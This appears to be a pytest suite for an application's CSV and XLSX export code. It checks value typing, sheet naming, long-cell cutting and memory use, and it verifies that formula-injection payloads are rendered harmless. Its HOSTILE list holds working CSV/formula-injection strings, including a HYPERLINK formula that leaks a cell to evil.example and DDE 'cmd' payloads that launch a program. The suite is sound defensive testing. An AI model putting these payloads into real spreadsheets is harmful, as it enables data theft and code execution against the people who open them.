"""Sheets as spreadsheets read them: real types, exact texts, nothing that is worked out."""

from __future__ import annotations

import csv
import re
import tracemalloc
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from python_calamine import CalamineWorkbook

from app.sheets.comma_separated import write_csv
from app.sheets.values import Sheet, like_formula
from app.sheets.workbook import cut, safe_name, write_workbook

MADE = datetime(2026, 11, 2, 9, 30, tzinfo=UTC)
MOMENT = datetime(2026, 11, 2, 9, 5)  # noqa: DTZ001 - sheets know no zones
HOSTILE = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", " =1", "　=1",
    "\ufeff=1", "=HYPERLINK(\"https://evil.example/?\"&A1)", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
]  # fmt: skip
PLAIN = [
    "Kitagawa, Logistics", 'He said "no"', "two\nlines", "two\r\nlines", "a;=1+1", "https://example.test",
    "1e5", "007", "TRUE", "会議記録🦀", "<r><t>bold</t></r>", "<b>&amp;", "_x0041_", "'quoted'", "x" * 40_000,
]  # fmt: skip


def csv_of(*lines):
    target = BytesIO()
    write_csv(Sheet("Records", ["One", "=Two"], lines), target)
    return target.getvalue()


def xlsx_of(*lines, name="Records", heads=("One", "=Two")):
    target = BytesIO()
    write_workbook(Sheet(name, list(heads), lines), target, MADE)
    return target.getvalue()


def rows_of(xlsx):
    return CalamineWorkbook.from_filelike(BytesIO(xlsx)).get_sheet_by_index(0).to_python()


def read_csv(data):
    return list(csv.reader(StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def test_csv_is_as_the_standard_has_it():
    data = csv_of(["a", Decimal("-1.50")], ['"', None])
    assert data == b'\xef\xbb\xbf"One","\'=Two"\r\n"a",-1.50\r\n"""",\r\n'
    assert read_csv(data)[1:] == [["a", "-1.50"], ['"', ""]]


def test_csv_writes_days_and_moments_so_that_every_program_reads_them():
    data = csv_of([date(2026, 11, 2), MOMENT])
    assert data.splitlines()[1] == b"2026-11-02,2026-11-02 09:05"
    assert csv_of([MOMENT.replace(second=7), 1]).splitlines()[1] == b"2026-11-02 09:05:07,1"


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_becomes_a_formula(text):
    assert like_formula(text)
    ((shown,),) = read_csv(csv_of([text]))[1:]
    assert shown == f"'{text}"
    xlsx = xlsx_of([text])
    assert rows_of(xlsx)[1][0] == text
    parts = parts_of(xlsx)
    assert "<f>" not in parts["xl/worksheets/sheet1.xml"]
    assert 'quotePrefix="1"' in parts["xl/styles.xml"]


@pytest.mark.parametrize("text", PLAIN, ids=lambda text: text[:20])
def test_every_text_stays_what_it_is(text):
    assert not like_formula(text)
    assert read_csv(csv_of([text]))[1] == [text]
    assert rows_of(xlsx_of([text]))[1][0] == cut(text)
    assert "hyperlink" not in parts_of(xlsx_of([text]))["xl/worksheets/sheet1.xml"]


def parts_of(xlsx):
    with zipfile.ZipFile(BytesIO(xlsx)) as book:
        return {name: book.read(name).decode() for name in book.namelist()}


def test_a_workbook_has_real_types():
    cells = rows_of(xlsx_of([Decimal("99.950"), date(2026, 11, 2), MOMENT, "1", None]))[1]
    assert cells[0] == 99.95
    assert cells[1] == date(2026, 11, 2)
    assert cells[2].isoformat() == "2026-11-02T09:05:00"
    assert cells[3] == "1"
    exact = xlsx_of([MOMENT.replace(second=7)])
    assert "hh:mm:ss" in parts_of(exact)["xl/styles.xml"]
    assert 'formatCode="0.000"' in parts_of(xlsx_of([Decimal("99.950")]))["xl/styles.xml"]


def test_what_a_spreadsheet_cannot_keep_exactly_is_a_text():
    assert rows_of(xlsx_of([Decimal("123456789012345.6"), date(1899, 12, 31)]))[1] == [
        "123456789012345.6", "1899-12-31",
    ]  # fmt: skip
    assert rows_of(xlsx_of([Decimal("12345678901234.5")]))[1][0] == 12345678901234.5


def test_a_workbook_has_a_frozen_head_with_filters():
    sheet = parts_of(xlsx_of(["a", "b"], ["c", "d"]))["xl/worksheets/sheet1.xml"]
    assert 'state="frozen"' in sheet
    assert '<autoFilter ref="A1:B3"/>' in sheet
    assert "autoFilter" in parts_of(xlsx_of())["xl/worksheets/sheet1.xml"]


def test_the_same_sheet_is_the_same_bytes():
    lines = [[text, Decimal(1)] for text in HOSTILE + PLAIN]
    assert xlsx_of(*lines) == xlsx_of(*lines)
    assert "2026-11-02T09:30:00Z" in parts_of(xlsx_of())["docProps/core.xml"]


@pytest.mark.parametrize(
    ("name", "safe"),
    [("SLAs", "SLAs"), ("a/b:c*d?[e]\\f", "a b c d  e  f"), ("'quoted'", "quoted"), ("", "1"),
     ("History", "History 1"), ("満足度" * 20, ("満足度" * 20)[:31])],
)  # fmt: skip
def test_the_name_of_a_sheet_is_one_that_spreadsheets_take(name, safe):
    assert safe_name(name) == safe
    book = CalamineWorkbook.from_filelike(BytesIO(xlsx_of(name=name)))
    assert book.sheet_names == [safe]


def test_a_text_too_long_for_a_cell_says_so():
    long = cut("🦀" * 20_000)
    assert long.endswith("🦀…")
    assert len(re.sub("…", "", long)) == 16_383
    assert rows_of(xlsx_of([long]))[1][0] == long


@pytest.mark.parametrize("write", [write_csv, lambda sheet, target: write_workbook(sheet, target, MADE)])
def test_memory_does_not_grow_with_the_rows(write, tmp_path):
    def peak(rows):
        with (tmp_path / "sheet").open("wb+") as target:
            tracemalloc.start()
            write(
                Sheet("Records", ["One"], ([f"text {number}", Decimal(number)] for number in range(rows))),
                target,
            )
            found = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
            return found

    peak(100)
    assert peak(3000) < peak(500) + 100_000  # forty bytes for a row
